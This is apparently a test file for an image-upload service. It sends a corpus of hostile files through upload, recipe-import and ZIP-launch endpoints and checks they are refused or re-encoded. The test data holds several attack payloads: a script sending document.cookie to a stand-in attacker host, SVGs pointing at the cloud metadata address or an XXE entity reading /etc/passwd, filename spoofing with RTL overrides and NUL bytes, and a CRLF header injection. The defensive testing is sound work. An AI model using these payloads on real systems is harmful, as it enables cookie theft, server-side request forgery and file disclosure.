import { crc32, deflateSync } from 'node:zlib';
import { readFile } from 'node:fs/promises';
import { count } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tables } from '@shotfarm/shared/db';
import { multipartFile, plainProductPhoto, startFarm, type Farm } from '../../test/harness.ts';
import { launchForm, zipOf } from '../../test/launch-form.ts';

/**
 * The hostile-file corpus (issue 19): every file is made here, from sharp's output and byte surgery, and sent through
 * POST /api/assets (and, where a file can travel there, the recipe import and a launch's photo ZIP). A file we cannot
 * take safely is refused with a 4xx and a code, and nothing is stored; a file that is a real image in disguise
 * (a polyglot, an EXIF trick, TIFF, AVIF) is stored only re-encoded, so what we serve never carries the disguise.
 *
 * Covered elsewhere, and not repeated here: a text file named .png, a JPEG cut in half, a 30000×30000 PNG bomb, a
 * 30 MB upload, `../` in the name, a 42 KB JPEG declaring 6000×6000, a PNG without IEND, a 280 MB-to-decode 16-bit
 * PNG, a real HEIC photo, two files in one request (routes/assets.int.test.ts); zip-slip, zip bombs and too many
 * entries in a launch's photo ZIP (services/launches/photo-zip.test.ts); PNG text-chunk bombs, oversized and
 * deeply nested workflows (routes/recipe-import.test.ts).
 */

const solid = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: { r: 180, g: 90, b: 40 } } });
/** Noise does not compress: cutting such a file in half cuts its image data, not only padding. */
const noisy = () => sharp({ create: { width: 256, height: 256, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } });
const smallJpeg = () => solid(64, 48).jpeg().toBuffer();
const smallPng = () => solid(64, 48).png().toBuffer();

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A PNG declaring `width`×`height` 8-bit RGB whose IDAT holds `idat` (already deflated). */
function pngWith(width: number, height: number, idat: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0); ihdr.writeUInt32BE(height, 4); ihdr[8] = 8; ihdr[9] = 2;
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A JPEG whose start-of-frame says `width`×`height` (the scan data stays that of a 64×48 image). */
async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await smallJpeg());
  const sof = bytes.findIndex((b, i) => b === 0xff && [0xc0, 0xc1, 0xc2].includes(bytes[i + 1]!));
  bytes.writeUInt16BE(height, sof + 5); bytes.writeUInt16BE(width, sof + 7);
  return bytes;
}

/** A lossy WebP whose VP8 frame header says `width`×`height` (14 bits each). */
async function webpDeclaring(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await solid(64, 48).webp({ lossless: false }).toBuffer());
  expect(bytes.toString('latin1', 12, 16)).toBe('VP8 ');
  bytes.writeUInt16LE(width & 0x3fff, 26); bytes.writeUInt16LE(height & 0x3fff, 28);
  return bytes;
}

/** A GIF whose logical screen says `width`×`height`. */
async function gifDeclaring(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await solid(64, 48).gif().toBuffer());
  bytes.writeUInt16LE(width, 6); bytes.writeUInt16LE(height, 8);
  return bytes;
}

/** A JPEG whose EXIF orientation tag holds `value` (1–8 are the defined ones). */
async function jpegWithOrientation(value: number, width = 60, height = 20): Promise<Buffer> {
  const bytes = Buffer.from(await solid(width, height).jpeg().withMetadata({ orientation: 6 }).toBuffer());
  // The tag 0x0112, type SHORT (3), count 1, then the value: big- or little-endian, as the TIFF header says.
  const be = Buffer.from([0x01, 0x12, 0x00, 0x03, 0x00, 0x00, 0x00, 0x01, 0x00, 0x06]);
  const le = Buffer.from([0x12, 0x01, 0x03, 0x00, 0x01, 0x00, 0x00, 0x00, 0x06, 0x00]);
  let at = bytes.indexOf(be);
  if (at >= 0) bytes.writeUInt16BE(value, at + 8);
  else { at = bytes.indexOf(le); expect(at).toBeGreaterThan(0); bytes.writeUInt16LE(value, at + 8); }
  return bytes;
}

const html = '<html><body><script>fetch("https://attacker.example/?c="+document.cookie)</script></body></html>';
/** A JPEG with HTML in a COM (comment) segment right after SOI: a browser sniffing the bytes may see a page. */
async function jpegWithHtmlComment(): Promise<Buffer> {
  const jpeg = await smallJpeg();
  const text = Buffer.from(html);
  const com = Buffer.alloc(4); com[0] = 0xff; com[1] = 0xfe; com.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), com, text, jpeg.subarray(2)]);
}

const svg = (body: string) => Buffer.from(`<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">${body}</svg>`);

type Refused = { status: number; code: string };
/** Stored only re-encoded: the served bytes hold none of `absent`, and the image is `size` (upright). */
type Normalised = { stored: { absent: string[]; size?: [number, number] } };
type Case = { name: string; make: () => Promise<{ bytes: Buffer; filename: string }>; expect: Refused | Normalised };

/** A case's file, made only when its test runs. */
const file = (filename: string, make: () => Buffer | Promise<Buffer>) => async () => ({ bytes: await make(), filename });

const cases: Case[] = [
  // Polyglots: a real image that is also something else. Trailing data after the end marker is common in real
  // photos (phones append motion video), so these are taken, but stored re-encoded: the disguise never comes back.
  { name: 'polyglot: a JPEG that is also a ZIP (an HTML page appended)', make: async () => ({ filename: 'holiday.jpg', bytes: Buffer.concat([await smallJpeg(), await zipOf({ 'index.html': Buffer.from(html) })]) }), expect: { stored: { absent: ['PK\u0003\u0004', '<script', 'index.html'], size: [64, 48] } } },
  { name: 'polyglot: a PNG with a ZIP appended after IEND', make: async () => ({ filename: 'shot.png', bytes: Buffer.concat([await smallPng(), await zipOf({ 'a.js': Buffer.from('alert(1)') })]) }), expect: { stored: { absent: ['PK\u0003\u0004', 'alert(1)'], size: [64, 48] } } },
  { name: 'polyglot: a JPEG with an HTML page in a comment segment', make: file('comment.jpg', () => jpegWithHtmlComment()), expect: { stored: { absent: ['<script', '<html'], size: [64, 48] } } },
  { name: 'polyglot: an HTML page with a JPEG after it', make: async () => ({ filename: 'page.jpg', bytes: Buffer.concat([Buffer.from(html), await smallJpeg()]) }), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  // Decompression bombs: small files that declare (or inflate to) huge images.
  // Inflating stops where the declared (and checked) image ends: the other 188 MB are never inflated.
  { name: 'bomb: a 2000×2000 PNG whose IDAT would inflate to 200 MB is read only as far as its image', make: file('zeros.png', () => pngWith(2000, 2000, deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 }))), expect: { stored: { absent: [], size: [2000, 2000] } } },
  { name: 'bomb: a WebP declaring 16383×16383', make: file('big.webp', () => webpDeclaring(16383, 16383)), expect: { status: 413, code: 'SF_UPLOAD_TOO_MANY_PIXELS' } },
  // libvips sizes a GIF by its frames, not the logical screen: the 64×48 frame is what is decoded and stored.
  { name: 'bomb: a GIF whose logical screen declares 65535×65535', make: file('big.gif', () => gifDeclaring(65535, 65535)), expect: { stored: { absent: ['GIF8'], size: [64, 48] } } },
  { name: 'bomb: a 9000×6000 TIFF of one colour (deflate: a few KB)', make: file('flat.tiff', () => solid(9000, 6000).tiff({ compression: 'deflate' }).toBuffer()), expect: { status: 413, code: 'SF_UPLOAD_TOO_MANY_PIXELS' } },
  // Huge or impossible declared dimensions.
  { name: 'dimensions: a JPEG declaring 60000×60000', make: file('huge.jpg', () => jpegDeclaring(60_000, 60_000)), expect: { status: 413, code: 'SF_UPLOAD_TOO_MANY_PIXELS' } },
  { name: 'dimensions: a JPEG declaring 65535×65535 (past libjpeg\'s 65500)', make: file('huger.jpg', () => jpegDeclaring(65535, 65535)), expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  // Was stored (issue 19 corpus): the end marker is there, so the truncation check passed, and 286 bytes decoded to 108 MB.
  { name: 'dimensions: a JPEG declaring 6000×6000 with the data of 64×48 (end marker kept)', make: file('liar6k.jpg', () => jpegDeclaring(6000, 6000)), expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  { name: 'dimensions: a JPEG declaring 0×48', make: file('zero.jpg', () => jpegDeclaring(0, 48)), expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  { name: 'dimensions: a PNG declaring 2^31−1 × 1', make: file('wide.png', () => pngWith(2 ** 31 - 1, 1, deflateSync(Buffer.alloc(64)))), expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  { name: 'dimensions: a JPEG declaring 4000×3000 with the data of 64×48', make: file('liar.jpg', () => jpegDeclaring(4000, 3000)), expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  // Truncated files, of each format we take.
  { name: 'truncated: an empty file', make: file('empty.jpg', () => Buffer.alloc(0)), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  { name: 'truncated: a JPEG cut to its first 11 bytes', make: async () => ({ filename: 'tiny.jpg', bytes: (await smallJpeg()).subarray(0, 11) }), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  { name: 'truncated: a PNG cut inside its IDAT', make: async () => { const png = await solid(256, 256).png({ compressionLevel: 0 }).toBuffer(); return { filename: 'cut.png', bytes: png.subarray(0, Math.floor(png.length / 2)) }; }, expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  { name: 'truncated: a WebP cut in half', make: async () => { const w = await noisy().webp().toBuffer(); return { filename: 'cut.webp', bytes: w.subarray(0, Math.floor(w.length / 2)) }; }, expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  { name: 'truncated: a GIF cut in half', make: async () => { const g = await noisy().gif().toBuffer(); return { filename: 'cut.gif', bytes: g.subarray(0, Math.floor(g.length / 2)) }; }, expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  { name: 'truncated: a TIFF cut in half', make: async () => { const t = await noisy().tiff().toBuffer(); return { filename: 'cut.tiff', bytes: t.subarray(0, Math.floor(t.length / 2)) }; }, expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  // Wrong magic: the name says image, the bytes say otherwise.
  { name: 'wrong magic: a .jpg that is text', make: file('photo.jpg', () => Buffer.from('just some notes, not a photo\n'.repeat(10))), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  { name: 'wrong magic: a .jpg that is a PDF', make: file('photo.jpg', () => Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  { name: 'wrong magic: a .png that is a ZIP', make: async () => ({ filename: 'photo.png', bytes: await zipOf({ 'photo.png': await smallPng() }) }), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  { name: 'wrong magic: a .jpg that is an ELF executable', make: file('photo.jpg', () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)])), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  // EXIF orientation tricks: only 1–8 mean anything; anything else leaves the image as it is.
  { name: 'EXIF: orientation 6 on a 60×20 JPEG is stored upright (20×60)', make: file('rot.jpg', () => jpegWithOrientation(6)), expect: { stored: { absent: ['Exif'], size: [20, 60] } } },
  { name: 'EXIF: orientation 9 (undefined) is ignored', make: file('rot9.jpg', () => jpegWithOrientation(9)), expect: { stored: { absent: ['Exif'], size: [60, 20] } } },
  { name: 'EXIF: orientation 65535 is ignored', make: file('rotmax.jpg', () => jpegWithOrientation(0xffff)), expect: { stored: { absent: ['Exif'], size: [60, 20] } } },
  { name: 'EXIF: orientation 0 is ignored', make: file('rot0.jpg', () => jpegWithOrientation(0)), expect: { stored: { absent: ['Exif'], size: [60, 20] } } },
  // SVG: never taken (it is a document that can fetch and script), whatever it is called.
  { name: 'SVG with an external image (cloud metadata address)', make: file('logo.svg', () => svg('<image href="http://169.254.169.254/latest/meta-data/" width="64" height="48"/>')), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  { name: 'SVG with an external entity, named .png', make: file('logo.png', () => Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`)), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  { name: 'SVG with a script and xlink to another origin', make: file('icon.svg', () => svg('<script>alert(1)</script><use xlink:href="https://attacker.example/sprite.svg#a"/>')), expect: { status: 415, code: 'SF_UPLOAD_NOT_IMAGE' } },
  // HEIF family, TIFF, AVIF.
  { name: 'HEIF: an ftyp mif1 box with garbage after it', make: file('IMG_0002.heic', () => Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypmif1\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(200, 0x41)])), expect: { status: 415, code: 'SF_UPLOAD_HEIC_UNSUPPORTED' } },
  { name: 'AVIF: a real AVIF is stored as PNG', make: file('photo.avif', () => solid(64, 48).avif().toBuffer()), expect: { stored: { absent: ['ftypavif'], size: [64, 48] } } },
  { name: 'AVIF: cut in half', make: async () => { const a = await noisy().avif().toBuffer(); return { filename: 'cut.avif', bytes: a.subarray(0, Math.floor(a.length / 2)) }; }, expect: { status: 422, code: 'SF_UPLOAD_CORRUPT' } },
  { name: 'TIFF: a real TIFF is stored as PNG', make: file('scan.tif', () => solid(64, 48).tiff().toBuffer()), expect: { stored: { absent: ['II*\u0000', 'MM\u0000*'], size: [64, 48] } } },
  // Unicode and other tricks in the file name (the bytes are a good JPEG).
  { name: 'name: an RTL override (invoice\u202Egpj.exe)', make: file('invoice\u202Egpj.exe', () => smallJpeg()), expect: { status: 400, code: 'SF_UPLOAD_BAD_FILENAME' } },
  { name: 'name: a bidi isolate', make: file('photo\u2067gpj.exe\u2069.jpg', () => smallJpeg()), expect: { status: 400, code: 'SF_UPLOAD_BAD_FILENAME' } },
  { name: 'name: a NUL (photo.jpg\\0.exe)', make: file('photo.jpg\u0000.exe', () => smallJpeg()), expect: { status: 400, code: 'SF_UPLOAD_BAD_FILENAME' } },
  { name: 'name: 1,000 characters', make: file(`${'长'.repeat(1000)}.jpg`, () => smallJpeg()), expect: { status: 400, code: 'SF_UPLOAD_BAD_FILENAME' } },
  { name: 'name: a Windows path', make: file('C:\\Users\\me\\photo.jpg', () => smallJpeg()), expect: { status: 400, code: 'SF_UPLOAD_BAD_FILENAME' } },
  { name: 'name: an absolute path', make: file('/etc/passwd', () => smallJpeg()), expect: { status: 400, code: 'SF_UPLOAD_BAD_FILENAME' } },
  // A CR LF ends the part's header line: the name busboy reads is `a.jpg`, and the injected line is just a part header.
  { name: 'name: a CR LF (header injection) ends the name', make: file('a.jpg\r\nX-Injected: 1', () => smallJpeg()), expect: { stored: { absent: ['X-Injected'], size: [64, 48] } } },
  // The control: an ordinary Chinese name with an emoji is a name, not a trick.
  { name: 'name: 产品图 🎁.jpg is fine', make: file('产品图 🎁.jpg', () => smallJpeg()), expect: { stored: { absent: [], size: [64, 48] } } },
];

describe('hostile files', () => {
  let farm: Farm;
  beforeAll(async () => { farm = await startFarm({ RATE_LIMIT_UPLOADS: '100000' }); });
  afterAll(() => farm.close());

  const launchCount = async () => (await farm.database.db.select({ n: count() }).from(tables.launches))[0]!.n;
  const storedBytes = async (url: string) => {
    const u = new URL(url);
    const res = await farm.inject({ method: 'GET', url: u.pathname + u.search });
    expect(res.statusCode).toBe(200);
    return res.rawPayload;
  };

  describe('POST /api/assets', () => {
    it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
      const { bytes, filename } = await c.make();
      const before = await farm.snapshot();
      const res = await farm.inject({ method: 'POST', url: '/api/assets', ...multipartFile(bytes, filename) });
      expect(res.statusCode, res.body.slice(0, 300)).toBeLessThan(500);
      if ('status' in c.expect) {
        expect({ status: res.statusCode, code: res.json().code }).toEqual(c.expect);
        // Our words only: no libvips or sharp text reaches a client.
        expect(res.json().message).not.toMatch(/vips|sharp|heif:|VipsForeign|libheif|Input buffer|libpng|jpeglib/i);
        expect(await farm.snapshot()).toEqual(before);
        return;
      }
      expect(res.statusCode, res.body.slice(0, 300)).toBeLessThanOrEqual(201);
      const asset = res.json();
      expect(['image/jpeg', 'image/png', 'image/webp']).toContain(asset.mime);
      if (c.expect.stored.size) expect([asset.width, asset.height]).toEqual(c.expect.stored.size);
      const served = await storedBytes(asset.url);
      // What is served is what sharp wrote: its own magic, none of the disguise, and the sizes it says.
      const meta = await sharp(served).metadata();
      expect([meta.width, meta.height]).toEqual([asset.width, asset.height]);
      for (const marker of c.expect.stored.absent) expect(served.includes(Buffer.from(marker, 'latin1')), `stored bytes contain ${JSON.stringify(marker)}`).toBe(false);
      expect(served.includes(Buffer.from(bytes))).toBe(false);
    }, 60_000);
  });

  describe('POST /api/recipes/import', () => {
    const importCases: [string, () => Promise<{ bytes: Buffer; filename: string }>][] = [
      ['a JPEG that is also a ZIP', async () => ({ bytes: Buffer.concat([await smallJpeg(), await zipOf({ 'workflow.json': Buffer.from('{}') })]), filename: 'workflow.jpg' })],
      ['a PNG declaring 30000×30000 without a workflow', async () => ({ bytes: pngWith(30_000, 30_000, deflateSync(Buffer.alloc(64 * 1024))), filename: 'bomb.png' })],
      ['an SVG with an external reference', async () => ({ bytes: svg('<image href="http://169.254.169.254/"/>'), filename: 'workflow.svg' })],
      ['a .json that is a truncated PNG', async () => ({ bytes: (await smallPng()).subarray(0, 30), filename: 'workflow.json' })],
      ['a .json that is binary garbage', async () => ({ bytes: Buffer.from(Array.from({ length: 512 }, (_v, i) => (i * 131) % 256)), filename: 'workflow.json' })],
      ['a name with an RTL override', async () => ({ bytes: Buffer.from('{"nodes": ['), filename: 'flow\u202Enosj.exe' })],
    ];
    it.each(importCases)('%s is refused with a code, nothing stored', async (_name, make) => {
      const { bytes, filename } = await make();
      const before = await farm.snapshot();
      const res = await farm.inject({ method: 'POST', url: '/api/recipes/import', ...multipartFile(bytes, filename) });
      expect(res.statusCode, res.body.slice(0, 300)).toBeGreaterThanOrEqual(400);
      expect(res.statusCode).toBeLessThan(500);
      expect(res.json().code).toMatch(/^SF_(WORKFLOW|UPLOAD)_[A-Z_]+$/);
      expect(await farm.snapshot()).toEqual(before);
    }, 60_000);
  });

  describe("a launch's photo ZIP", () => {
    it('refuses every row whose photo is hostile, with a code per row, and stores nothing', async () => {
      const photos: Record<string, Buffer> = {
        'photos/text.jpg': Buffer.from('not a photo\n'.repeat(20)),
        'photos/bomb.png': pngWith(30_000, 30_000, deflateSync(Buffer.alloc(64 * 1024))),
        'photos/cut.jpg': (await readFile(plainProductPhoto())).subarray(0, 4096),
        'photos/logo.svg': svg('<image href="http://169.254.169.254/"/>'),
        'photos/huge.jpg': await jpegDeclaring(65535, 65535),
        'photos/page.jpg': Buffer.concat([Buffer.from(html), await smallJpeg()]),
      };
      const names = Object.keys(photos);
      const manifest = `sku,title,category,photos\n${names.map((n, i) => `H-${i},Hostile ${i},home,${n}`).join('\n')}\n`;
      // acceptPartial: rows that pass the sniff are decoded too (and refused there), not refused for their siblings.
      const plan = { recipes: [{ recipe: 'product-shot/studio-local', variants: 1 }], pick: 1, profile: 'taobao-main', acceptPartial: true };
      const before = await farm.snapshot();
      const launchesBefore = await launchCount();
      const res = await farm.inject({ method: 'POST', url: '/api/launches', ...launchForm(manifest, plan, await zipOf(photos)) });
      expect(res.statusCode, res.body.slice(0, 500)).toBe(422);
      expect(res.json().code).toBe('SF_LAUNCH_MANIFEST_INVALID');
      const rejected = res.json().details.rejected as { line: number; code: string }[];
      expect(rejected.map((r) => r.line).sort((a, b) => a - b)).toEqual(names.map((_n, i) => i + 2));
      for (const r of rejected) expect(r.code).toBe('photo_not_image');
      expect(await farm.snapshot()).toEqual(before);
      expect(await launchCount()).toBe(launchesBefore);
    }, 120_000);
  });
});
